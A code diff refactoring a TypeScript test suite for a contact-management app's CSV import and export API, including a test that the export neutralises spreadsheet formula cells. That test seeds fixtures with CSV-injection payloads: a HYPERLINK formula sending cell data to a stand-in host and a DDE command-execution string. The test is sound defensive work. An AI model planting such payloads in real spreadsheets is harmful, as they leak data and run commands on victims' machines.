@@ -1,28 +1,18 @@
-import { activateFlow, createTestRuntime, type TestRuntime } from '@scoreflow/runtime/testing';
+import { activateFlow, createTestRuntime, flows } from '@scoreflow/runtime/testing';
 import { parse } from 'csv-parse/sync';
-import type { Express } from 'express';
 import { pino } from 'pino';
 import request from 'supertest';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { createApp } from '../app.js';
-import { asAdmin } from '../testing.js';
+import { asAdmin, useTestApp } from '../testing.js';
 
-let t: TestRuntime;
-let app: Express;
-beforeEach(async () => {
-  t = await createTestRuntime();
-  await t.runtime.start();
-  app = asAdmin(createApp({ store: t.store, logger: pino({ level: 'silent' }), ingest: t.ingest }), t.store);
-});
-afterEach(async () => {
-  await t.close();
-});
+const { app, runtime: t } = useTestApp({ runtime: true });
 
 const importCsv = (csv: string, query = '') =>
-  request(app).post(`/api/contacts/import${query}`).set('content-type', 'text/csv').send(csv);
+  request(app()).post(`/api/contacts/import${query}`).set('content-type', 'text/csv').send(csv);
 
 const countContacts = () =>
-  (t.store.db.prepare('SELECT count(*) AS n FROM contacts').get() as { n: number }).n;
+  (t().store.db.prepare('SELECT count(*) AS n FROM contacts').get() as { n: number }).n;
 
 describe('CSV import and export', () => {
   it('imports 20,000 rows in one streamed request, keeping valid rows and naming bad lines', async () => {
@@ -45,19 +35,19 @@ describe('CSV import and export', () => {
       { line: 15002, message: 'score:SCORE must be a number, not "lots"' },
     ]);
     expect(countContacts()).toBe(19_997);
-    const c = t.store.contacts.findByEmail('p42@example.com');
+    const c = t().store.contacts.findByEmail('p42@example.com');
     expect(c).toMatchObject({ externalId: 'crm-42', attributes: { city: 'Oslo', n: 42, plan: 'pro' } });
-    expect(t.store.tags.list(c?.id ?? '')).toEqual(['lead', 'webinar']);
-    expect(t.store.lists.list(c?.id ?? '')).toEqual(['Newsletter']);
-    expect(t.store.scores.get(c?.id ?? '', 'SCORE')).toBe(42);
-    expect(t.store.ledger.listForContact(c?.id ?? '', {})[0]).toMatchObject({
+    expect(t().store.tags.list(c?.id ?? '')).toEqual(['lead', 'webinar']);
+    expect(t().store.lists.list(c?.id ?? '')).toEqual(['Newsletter']);
+    expect(t().store.scores.get(c?.id ?? '', 'SCORE')).toBe(42);
+    expect(t().store.ledger.listForContact(c?.id ?? '', {})[0]).toMatchObject({
       delta: 42,
       actor: 'csv-import',
     });
     // Imported changes start no flows unless asked to.
-    expect(t.store.events.listPending()).toEqual([]);
+    expect(t().store.events.listPending()).toEqual([]);
 
-    const exported = await request(app).get('/api/contacts/export.csv').expect(200);
+    const exported = await request(app()).get('/api/contacts/export.csv').expect(200);
     expect(exported.headers['content-type']).toMatch(/^text\/csv/);
     const rows = parse(exported.text, { columns: true }) as Record<string, string>[];
     expect(rows).toHaveLength(19_997);
@@ -74,72 +64,65 @@ describe('CSV import and export', () => {
     // The export imports back unchanged: nothing is created, no score moves.
     const again = await importCsv(exported.text).expect(200);
     expect(again.body).toMatchObject({ imported: 19_997, created: 0, failed: 0 });
-    expect(t.store.ledger.listForContact(c?.id ?? '', {})).toHaveLength(1);
+    expect(t().store.ledger.listForContact(c?.id ?? '', {})).toHaveLength(1);
   }, 120_000);
 
   it('with ?startFlows=true, imported rows become contact.imported events that trigger flows', async () => {
-    activateFlow(t.store, {
-      schemaVersion: 1,
-      settings: { name: 'Welcome imports', reentry: { mode: 'always' } },
-      nodes: [
-        { id: 't', type: 'trigger.event', position: { x: 0, y: 0 }, config: { event: 'contact.imported' } },
-        { id: 'a', type: 'action.addTag', position: { x: 0, y: 1 }, config: { tag: 'welcomed' } },
-      ],
-      edges: [{ id: 'e', source: 't', target: 'a' }],
-    });
-    activateFlow(t.store, {
-      schemaVersion: 1,
-      settings: { name: 'Plan', reentry: { mode: 'always' } },
-      nodes: [
-        {
-          id: 't',
-          type: 'trigger.attributeChanged',
-          position: { x: 0, y: 0 },
-          config: { attribute: 'plan' },
-        },
-        { id: 'a', type: 'action.addTag', position: { x: 0, y: 1 }, config: { tag: 'has-plan' } },
-      ],
-      edges: [{ id: 'e', source: 't', target: 'a' }],
-    });
+    activateFlow(
+      t().store,
+      flows.chain(
+        'Welcome imports',
+        ['trigger.event', { event: 'contact.imported' }],
+        ['action.addTag', { tag: 'welcomed' }],
+      ),
+    );
+    activateFlow(
+      t().store,
+      flows.chain(
+        'Plan',
+        ['trigger.attributeChanged', { attribute: 'plan' }],
+        ['action.addTag', { tag: 'has-plan' }],
+      ),
+    );
     const csv = 'email,plan\nann@example.com,pro\nbob@example.com,\n';
     await importCsv(csv, '?startFlows=false').expect(200);
-    const ann = () => t.store.contacts.findByEmail('ann@example.com');
-    expect(t.store.tags.list(ann()?.id ?? '')).toEqual([]);
+    const ann = () => t().store.contacts.findByEmail('ann@example.com');
+    expect(t().store.tags.list(ann()?.id ?? '')).toEqual([]);
 
     const res = await importCsv(
       'email,plan\nann@example.com,team\nbob@example.com,\n',
       '?startFlows=true',
     ).expect(200);
     expect(res.body).toMatchObject({ imported: 2, created: 0, failed: 0, startFlows: true });
-    await t.until(
-      () => t.store.events.listPending().length === 0 && t.store.tags.list(ann()?.id ?? '').length === 2,
+    await t().until(
+      () => t().store.events.listPending().length === 0 && t().store.tags.list(ann()?.id ?? '').length === 2,
       'flows',
     );
-    expect(t.store.tags.list(ann()?.id ?? '')).toEqual(['has-plan', 'welcomed']);
+    expect(t().store.tags.list(ann()?.id ?? '')).toEqual(['has-plan', 'welcomed']);
     expect(ann()?.attributes).toEqual({ plan: 'team' });
-    const bob = t.store.contacts.findByEmail('bob@example.com');
-    expect(t.store.tags.list(bob?.id ?? '')).toEqual(['welcomed']);
+    const bob = t().store.contacts.findByEmail('bob@example.com');
+    expect(t().store.tags.list(bob?.id ?? '')).toEqual(['welcomed']);
   });
 
   it('neutralises formula cells in the export, keeps negative scores as numbers, and imports back exactly', async () => {
     const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
     const dde = "+cmd|' /C calc'!A0";
-    const { contact } = t.store.contacts.upsertByIdentity({
+    const { contact } = t().store.contacts.upsertByIdentity({
       email: '-ann@example.com',
       externalId: hyperlink,
     });
-    t.store.tags.add(contact.id, dde);
-    t.store.tags.add(contact.id, 'lead');
-    t.store.lists.add(contact.id, '@SUM(1+9)');
-    t.store.scores.set(contact.id, 'SCORE', -5);
-    const { contact: bob } = t.store.contacts.upsertByIdentity({
+    t().store.tags.add(contact.id, dde);
+    t().store.tags.add(contact.id, 'lead');
+    t().store.lists.add(contact.id, '@SUM(1+9)');
+    t().store.scores.set(contact.id, 'SCORE', -5);
+    const { contact: bob } = t().store.contacts.upsertByIdentity({
       email: 'bob@example.com',
       externalId: "'=kept",
     });
-    t.store.tags.add(bob.id, '-1+2');
-    t.store.scores.set(bob.id, 'SCORE', 12);
+    t().store.tags.add(bob.id, '-1+2');
+    t().store.scores.set(bob.id, 'SCORE', 12);
 
-    const exported = await request(app).get('/api/contacts/export.csv').expect(200);
+    const exported = await request(app()).get('/api/contacts/export.csv').expect(200);
     const cells = parse(exported.text) as string[][];
     expect(cells[1]).toEqual([
       "'-ann@example.com",
@@ -185,7 +168,7 @@ describe('CSV import and export', () => {
       'typed@example.com,4,4,true,FALSE,pro,0.5,-12,01234,123,+4712345678,12345678901234567890,1e3',
     ].join('\n');
     await importCsv(`${csv}\n`).expect(200);
-    const c = t.store.contacts.findByEmail('typed@example.com');
+    const c = t().store.contacts.findByEmail('typed@example.com');
     expect(c?.externalId).toBe('4');
     expect(c?.attributes).toEqual({
       social_profiles: 4,
@@ -201,12 +184,12 @@ describe('CSV import and export', () => {
       code: '1e3',
     });
     // Four profiles are the whole social part of the action score.
-    const res = await request(app).get(`/api/contacts/${c?.id}`).expect(200);
+    const res = await request(app()).get(`/api/contacts/${c?.id}`).expect(200);
     expect(res.body.actionScore.parts.social).toBe(100);
   });
 
   it('takes text/csv only, and stops at broken CSV saying how many rows were kept', async () => {
-    await request(app).post('/api/contacts/import').send({ email: 'a@b.example' }).expect(415);
+    await request(app()).post('/api/contacts/import').send({ email: 'a@b.example' }).expect(415);
     const res = await importCsv('email\nok@example.com\n"unterminated@example.com\n').expect(400);
     expect(res.body.detail).toMatch(/the 1 rows before it were imported/);
     expect(countContacts()).toBe(1);
